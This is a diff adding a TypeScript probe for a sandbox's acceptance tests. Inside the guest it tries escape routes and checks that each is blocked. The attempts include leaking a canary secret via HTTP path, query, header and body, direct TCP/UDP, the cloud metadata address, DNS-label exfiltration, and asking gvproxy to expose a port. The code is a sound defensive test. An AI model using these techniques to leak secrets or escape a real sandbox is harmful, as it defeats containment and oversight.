@@ -1,0 +1,231 @@
+// The acceptance suite's agent: run inside the guest by `bottle launch`, it
+// tries every way out it can think of and prints one line per attempt,
+// `PROBE {"id","ok","observed"}`, where ok says whether what the guest saw
+// is what a sealed bottle must show. The harness adds what only the host can
+// see (a server that must have received nothing) and prints the table.
+// Everything it needs comes from its environment (agent.env, agent.secrets).
+import { createSocket } from "node:dgram";
+import { existsSync, mkdirSync, readFileSync, watch, writeFileSync } from "node:fs";
+import { connect, createServer, isIPv6 } from "node:net";
+import { networkInterfaces } from "node:os";
+import { join } from "node:path";
+import { decodeAnswer, encodeQuery, RCODE_NXDOMAIN, rcodeName, type QueryType } from "./dns-wire.js";
+import { DIRECT_MARKER, DONE_LINE, ERROR_PREFIX, RESULT_PREFIX, type Step } from "./probe-protocol.js";
+
+const env = (name: string): string => {
+  const value = process.env[name];
+  if (!value) throw new Error(`probe: ${name} is not set`);
+  return value;
+};
+
+const TIMEOUT_MS = 5000;
+const canary = env("CANARY");
+const upstream = env("PROBE_UPSTREAM_IP");
+const allowed = env("PROBE_ALLOWED_HOST");
+const blocked = env("PROBE_BLOCKED_HOST");
+const loopbackPort = Number(env("PROBE_LOOPBACK_PORT"));
+const exposePort = Number(env("PROBE_EXPOSE_PORT"));
+const exfilDomain = env("PROBE_EXFIL_DOMAIN");
+const syncDir = env("PROBE_SYNC_DIR");
+const proxy = new URL(env("HTTP_PROXY"));
+
+function report(id: string, ok: boolean, observed: string): void {
+  process.stdout.write(`${RESULT_PREFIX}${JSON.stringify({ id, ok, observed })}\n`);
+}
+
+/** The default route's gateway, from /proc/net/route (little-endian hex). */
+function gateway(): string {
+  const line = readFileSync("/proc/net/route", "utf8").split("\n").find((l) => l.split(/\s+/)[1] === "00000000");
+  const hex = line?.split(/\s+/)[2];
+  if (!hex) throw new Error("probe: no default route");
+  return [6, 4, 2, 0].map((i) => parseInt(hex.slice(i, i + 2), 16)).join(".");
+}
+
+function resolverAddress(): string {
+  const match = /^nameserver\s+(\S+)/m.exec(readFileSync("/etc/resolv.conf", "utf8"));
+  if (!match?.[1]) throw new Error("probe: no nameserver in /etc/resolv.conf");
+  return match[1];
+}
+
+interface HttpAnswer {
+  status: number;
+  body: string;
+}
+
+/** One raw HTTP/1.1 exchange with host:port; the answer, or the error's code. */
+function exchange(host: string, port: number, request: string): Promise<HttpAnswer | string> {
+  return new Promise((resolve) => {
+    const socket = connect({ host, port });
+    let data = "";
+    const timer = setTimeout(() => finish("timeout"), TIMEOUT_MS);
+    function finish(result: HttpAnswer | string): void {
+      clearTimeout(timer);
+      socket.destroy();
+      resolve(result);
+    }
+    socket.on("connect", () => socket.write(request));
+    socket.on("data", (chunk: Buffer) => (data += chunk.toString("latin1")));
+    socket.on("error", (error: NodeJS.ErrnoException) => finish(error.code ?? error.message));
+    socket.on("end", () => {
+      const status = /^HTTP\/1\.[01] ([0-9]{3})/.exec(data);
+      finish(status ? { status: Number(status[1]), body: data.slice(data.indexOf("\r\n\r\n") + 4) } : `no HTTP answer (${JSON.stringify(data.slice(0, 60))})`);
+    });
+  });
+}
+
+function viaProxy(method: string, url: string, headers: Record<string, string> = {}, body = ""): Promise<HttpAnswer | string> {
+  const lines = [`${method} ${url} HTTP/1.1`, `Host: ${new URL(url).host}`, ...Object.entries(headers).map(([n, v]) => `${n}: ${v}`)];
+  if (body) lines.push(`Content-Length: ${Buffer.byteLength(body)}`);
+  return exchange(proxy.hostname, Number(proxy.port), `${lines.join("\r\n")}\r\nConnection: close\r\n\r\n${body}`);
+}
+
+const describe = (answer: HttpAnswer | string): string => (typeof answer === "string" ? answer : `${answer.status} ${answer.body.trim().slice(0, 80)}`);
+const isStatus = (answer: HttpAnswer | string, status: number): boolean => typeof answer !== "string" && answer.status === status;
+
+function tcpConnect(host: string, port: number): Promise<string> {
+  return new Promise((resolve) => {
+    const socket = connect({ host, port, family: isIPv6(host) ? 6 : 4 });
+    const timer = setTimeout(() => finish("timeout"), TIMEOUT_MS);
+    function finish(result: string): void {
+      clearTimeout(timer);
+      socket.destroy();
+      resolve(result);
+    }
+    socket.on("connect", () => {
+      // gvproxy accepts the guest's SYN before it dials out, then closes when that dial fails.
+      socket.once("data", () => finish("connected, and it answered"));
+      socket.once("close", () => finish("accepted, then closed with no byte"));
+      socket.write(`${DIRECT_MARKER}\r\n\r\n`);
+    });
+    socket.on("error", (error: NodeJS.ErrnoException) => finish(error.code ?? error.message));
+  });
+}
+
+function dnsQuery(server: string, name: string, type: QueryType): Promise<ReturnType<typeof decodeAnswer> | string> {
+  return new Promise((resolve) => {
+    const socket = createSocket("udp4");
+    const id = Math.floor(Math.random() * 65535);
+    const timer = setTimeout(() => finish("no answer (timeout)"), TIMEOUT_MS);
+    function finish(result: ReturnType<typeof decodeAnswer> | string): void {
+      clearTimeout(timer);
+      socket.close();
+      resolve(result);
+    }
+    socket.on("message", (message) => {
+      try {
+        const answer = decodeAnswer(message);
+        if (answer.id === id) finish(answer);
+      } catch (error) {
+        finish(`bad answer: ${String(error)}`);
+      }
+    });
+    socket.on("error", (error: NodeJS.ErrnoException) => finish(error.code ?? error.message));
+    socket.send(encodeQuery(id, name, type), 53, server);
+  });
+}
+
+const describeDns = (answer: ReturnType<typeof decodeAnswer> | string): string =>
+  typeof answer === "string" ? answer : `${rcodeName(answer.rcode)}${answer.addresses.length ? ` ${answer.addresses.join(",")}` : ""}`;
+
+/** Tells the harness we reached `step` and waits until it answers (it writes `<step>.go`). */
+async function handshake(step: Step, detail: object = {}): Promise<string> {
+  mkdirSync(syncDir, { recursive: true });
+  const go = join(syncDir, `${step}.go`);
+  const answered = new Promise<void>((resolve, reject) => {
+    const watcher = watch(syncDir, () => existsSync(go) && done());
+    const timer = setTimeout(() => done(new Error(`probe: the harness did not answer ${step} within 60 s`)), 60_000);
+    function done(error?: Error): void {
+      clearTimeout(timer);
+      watcher.close();
+      if (error) reject(error);
+      else resolve();
+    }
+    if (existsSync(go)) done();
+  });
+  writeFileSync(join(syncDir, `${step}.ready`), JSON.stringify(detail));
+  await answered;
+  return readFileSync(go, "utf8");
+}
+
+async function main(): Promise<void> {
+  const gw = gateway();
+  const resolver = resolverAddress();
+
+  // Positive controls first: a bottle that cannot reach its proxy proves nothing.
+  const proxyA = await dnsQuery(resolver, "proxy.internal", "A");
+  report("proxy-resolves", typeof proxyA !== "string" && proxyA.addresses.includes(gw), describeDns(proxyA));
+  const hello = await viaProxy("GET", `http://${allowed}/hello`);
+  report("allowed-host", isStatus(hello, 200), describe(hello));
+
+  // Through the proxy.
+  const denied = await viaProxy("GET", `http://${blocked}/`);
+  report("proxy-not-allowlisted", isStatus(denied, 403), describe(denied));
+  const literal = await viaProxy("GET", `http://${upstream}/`);
+  report("proxy-ip-literal", isStatus(literal, 403), describe(literal));
+  const loopback = await viaProxy("GET", `http://127.0.0.1:${loopbackPort}/`);
+  report("proxy-host-loopback", isStatus(loopback, 403), describe(loopback));
+
+  // The canary secret to an allowlisted host: pipelock's DLP must block each.
+  const base = `http://${allowed}`;
+  const inPath = await viaProxy("GET", `${base}/leak/${canary}`);
+  report("dlp-path", isStatus(inPath, 403), describe(inPath));
+  const inQuery = await viaProxy("GET", `${base}/leak?token=${canary}`);
+  report("dlp-query", isStatus(inQuery, 403), describe(inQuery));
+  const inHeader = await viaProxy("GET", `${base}/leak`, { "X-Leak": canary });
+  report("dlp-header", isStatus(inHeader, 403), describe(inHeader));
+  const inBody = await viaProxy("POST", `${base}/leak`, { "Content-Type": "application/json" }, JSON.stringify({ token: canary }));
+  report("dlp-body", isStatus(inBody, 403), describe(inBody));
+
+  // Around the proxy.
+  const direct = await tcpConnect(upstream, 80);
+  report("direct-tcp", !direct.includes("answered"), direct);
+  await new Promise<void>((resolve) => {
+    const socket = createSocket("udp4");
+    socket.send(`udp-probe ${canary}`, 9999, upstream, (error) => {
+      report("direct-udp", true, error ? `send failed: ${error.message}` : "sent (the harness checks it never arrived)");
+      socket.close();
+      resolve();
+    });
+  });
+  const nat = await tcpConnect(gw, loopbackPort);
+  report("gateway-nat-loopback", !nat.includes("answered"), nat);
+  const metadata = await tcpConnect("169.254.169.254", 80);
+  report("metadata-169.254.169.254", !metadata.includes("answered"), metadata);
+  const v6 = await tcpConnect("2001:db8::2", 80);
+  report("ipv6", !v6.includes("connected") && !v6.includes("accepted"), v6);
+
+  // DNS.
+  const other = await dnsQuery(resolver, allowed, "A");
+  report("dns-a-other-name", typeof other !== "string" && other.rcode === RCODE_NXDOMAIN, describeDns(other));
+  const label = Buffer.from(canary).toString("hex").slice(0, 60);
+  const crafted: string[] = [];
+  for (const type of ["TXT", "MX", "AAAA"] as const) {
+    crafted.push(`${type} ${describeDns(await dnsQuery(resolver, `${type.toLowerCase()}-${label}.${exfilDomain}`, type))}`);
+  }
+  report("dns-exfil-non-a", true, crafted.join("; "));
+  const directDns = await dnsQuery(upstream, `direct-${label}.${exfilDomain}`, "A");
+  report("dns-direct-resolver", typeof directDns === "string", describeDns(directDns));
+
+  // gvproxy's services API on the gateway: ask it to open a listener.
+  const server = createServer((socket) => socket.end("exposed guest service\n"));
+  await new Promise<void>((resolve) => server.listen(8080, "0.0.0.0", resolve));
+  const guestIp = networkInterfaces().tap0?.find((a) => a.family === "IPv4")?.address ?? "";
+  const body = JSON.stringify({ local: `127.0.0.1:${exposePort}`, remote: `${guestIp}:8080`, protocol: "tcp" });
+  const expose = await exchange(gw, 80, `POST /services/forwarder/expose HTTP/1.1\r\nHost: ${gw}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`);
+  report("gateway-api-expose", true, `asked gvproxy to expose ${guestIp}:8080 on 127.0.0.1:${exposePort}: ${describe(expose)}`);
+  await handshake("exposed", { port: exposePort });
+  server.close();
+
+  // Live allowlist edit: the harness adds the blocked host and waits for the reload.
+  await handshake("edit-allowlist");
+  const after = await viaProxy("GET", `http://${blocked}/after-edit`);
+  report("live-allowlist-edit", isStatus(after, 200), describe(after));
+}
+
+main().then(
+  () => process.stdout.write(`${DONE_LINE}\n`),
+  (error: unknown) => {
+    process.stdout.write(`${ERROR_PREFIX}${error instanceof Error ? error.message : String(error)}\n`);
+    process.exitCode = 1;
+  },
+);
